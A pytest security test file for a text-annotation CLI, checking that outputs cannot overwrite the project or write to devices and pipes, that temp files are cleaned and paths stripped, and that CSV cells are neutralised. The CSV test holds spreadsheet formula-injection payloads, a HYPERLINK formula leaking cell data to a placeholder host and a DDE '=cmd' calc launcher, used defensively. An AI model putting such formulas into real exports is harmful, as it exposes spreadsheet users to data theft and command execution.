"""Item 2: no output path may destroy the project, and none may be a device or a pipe.

`export p.db -o p.db --force`, `stats p.db --html p.db` and `import ... --report p.db`
replaced the project with their output. Every output is now checked against the project,
its `-wal`/`-shm`/`.lock`, any other project file (through symlinks and hard links), and
anything that is not a regular file or a new path.
"""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from annotator.cli import main
from tests.security.conftest import make_project, one_line, run_cli, snapshot


def run(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str]:
    code = main(list(argv))
    return code, capsys.readouterr().err


def test_no_command_writes_over_the_project(
    project_path: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    other = make_project(tmp_path / "other.annotator")
    hard = tmp_path / "hard.jsonl"
    os.link(project_path, hard)
    soft = tmp_path / "soft.jsonl"
    soft.symlink_to(project_path)
    bad = tmp_path / "bad.jsonl"
    bad.write_text('{"text": "a good line"}\n{"no text": true}\n', encoding="utf-8")
    before = snapshot(project_path), snapshot(other)
    p = str(project_path)
    attempts = [
        ("export", p, "-o", p, "--force"),
        ("export", p, "-o", p + "-wal", "--force"),
        ("export", p, "-o", p + ".lock", "--force"),
        ("export", p, "-o", str(hard), "--force"),
        ("export", p, "-o", str(soft), "--force"),
        ("export", p, "-o", str(other), "--force"),
        ("export", p, "-o", str(tmp_path / "x.csv"), "--format", "csv", "--force"),  # control: allowed
        ("stats", p, "--html", p),
        ("stats", p, "--html", str(hard), "--force"),
        ("import", p, str(bad), "--skip-bad", "--no-nlp", "--report", p),
        ("import", p, str(bad), "--skip-bad", "--no-nlp", "--report", str(soft)),
    ]
    for argv in attempts:
        code, err = run(capsys, *argv)
        if argv[-2:] == ("csv", "--force"):
            assert code == 0, err
            continue
        assert code == 1, (argv, err)
        assert "project" in one_line(err), err
    assert (snapshot(project_path), snapshot(other)) == before
    assert hard.samefile(project_path) and soft.resolve() == project_path.resolve()


def test_outputs_must_be_regular_files_or_new_paths(
    project_path: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    # Links in the test folder, never the system paths themselves: code that renames over its
    # output would replace /dev/null for the whole machine, where these only lose a link.
    null = tmp_path / "null"
    null.symlink_to("/dev/null")
    stdout = tmp_path / "stdout"
    stdout.symlink_to("/dev/stdout")
    before = snapshot(project_path)
    for target in (null, stdout):
        for argv in (
            ("export", str(project_path), "-o", str(target), "--force"),
            ("stats", str(project_path), "--html", str(target), "--force"),
        ):
            code, err = run(capsys, *argv)
            assert code == 1, (argv, err)
            assert "not a regular file" in one_line(err)
        assert target.is_symlink()
    fifo = tmp_path / "out.fifo"
    os.mkfifo(fifo)
    for argv in (
        ("export", str(project_path), "-o", str(fifo), "--force"),
        ("stats", str(project_path), "--html", str(fifo), "--force"),
    ):
        result = run_cli(*argv, timeout=60)  # writing into a FIFO nobody reads used to hang
        assert result.returncode == 1, result.stderr
        assert "not a regular file" in one_line(result.stderr)
    assert snapshot(project_path) == before


def test_stats_html_is_atomic_and_needs_force_to_replace(
    project_path: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    report = tmp_path / "report.html"
    report.write_text("mine", encoding="utf-8")
    code, err = run(capsys, "stats", str(project_path), "--html", str(report))
    assert code == 1 and "--force" in one_line(err)
    assert report.read_text("utf-8") == "mine"
    code, err = run(capsys, "stats", str(project_path), "--html", str(report), "--force")
    assert code == 0, err
    assert report.read_text("utf-8").startswith("<!DOCTYPE html>")
    assert [p.name for p in tmp_path.iterdir() if p.name.endswith(".part")] == []


def test_csv_cells_that_spreadsheets_would_evaluate_are_neutralised(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Item 10: `=HYPERLINK(...)`, `=cmd|...`, `+`, `-`, `@`, tab and CR starts are written with a `'`."""
    import csv

    from annotator import open_project
    from annotator.core.model import ArticleDraft

    project = tmp_path / "p.db"
    text = '=HYPERLINK("http://x.example/?"&A1, "click") said the mayor. -5 people came. @home'
    with open_project(project) as opened:
        (article_id,) = opened.import_drafts([ArticleDraft(text=text, title='=cmd|" /C calc"!A0')]).added
        opened.add_claim(article_id, 0, 20, "factual", annotator="+ana", note="@SUM(1+1)")
        opened.add_claim(
            article_id, text.index("-5"), text.index("-5") + 10, "opinion", annotator="bo", note="\tx"
        )
    out = tmp_path / "claims.csv"
    code, err = run(capsys, "export", str(project), "-o", str(out), "--format", "csv")
    assert code == 0, err
    with out.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    for row in rows:
        for column in ("title", "text", "annotator", "note", "context"):
            assert not row[column].startswith(("=", "+", "-", "@", "\t", "\r")), (column, row[column])
    assert rows[0]["title"] == '\'=cmd|" /C calc"!A0' and rows[0]["note"] == "'@SUM(1+1)"


def test_a_killed_exports_temp_file_is_removed_by_the_next_export(
    project_path: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Item 11: a killed export left a hidden `.part` file for ever."""
    import subprocess
    import sys

    dead = subprocess.run(
        [sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True
    )
    dead_pid = int(dead.stdout)
    out_dir = tmp_path / "exports"
    out_dir.mkdir()
    stale = out_dir / f".out.jsonl.{dead_pid}.k3j2h1.part"
    stale.write_text('{"half": ', encoding="utf-8")
    live = out_dir / f".other.jsonl.{os.getppid()}.a1b2c3.part"  # a writer still running
    live.write_text("", encoding="utf-8")
    code, err = run(capsys, "export", str(project_path), "-o", str(out_dir / "out.jsonl"))
    assert code == 0, err
    assert not stale.exists() and live.exists()
    assert sorted(p.name for p in out_dir.iterdir()) == [live.name, "out.jsonl"]


def test_exports_name_the_imported_file_not_its_folders(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Item 12: `meta.import_file` carried the annotator's user and folder names."""
    import json

    folder = tmp_path / "home" / "ana" / "secret-investigation"
    folder.mkdir(parents=True)
    article = folder / "leak.txt"
    article.write_text("The minister said prices rose in May.", encoding="utf-8")
    project = tmp_path / "p.db"
    assert run(capsys, "import", str(project), str(article), "--no-nlp")[0] == 0
    out = tmp_path / "out.jsonl"
    assert run(capsys, "export", str(project), "-o", str(out))[0] == 0
    text = out.read_text("utf-8")
    assert json.loads(text)["meta"]["import_file"] == "leak.txt"
    assert "secret-investigation" not in text and "ana" not in text.split('"meta"')[1].split('"tokens"')[0]
    full = tmp_path / "full.jsonl"
    assert run(capsys, "export", str(project), "-o", str(full), "--full-paths")[0] == 0
    assert json.loads(full.read_text("utf-8"))["meta"]["import_file"] == str(article)
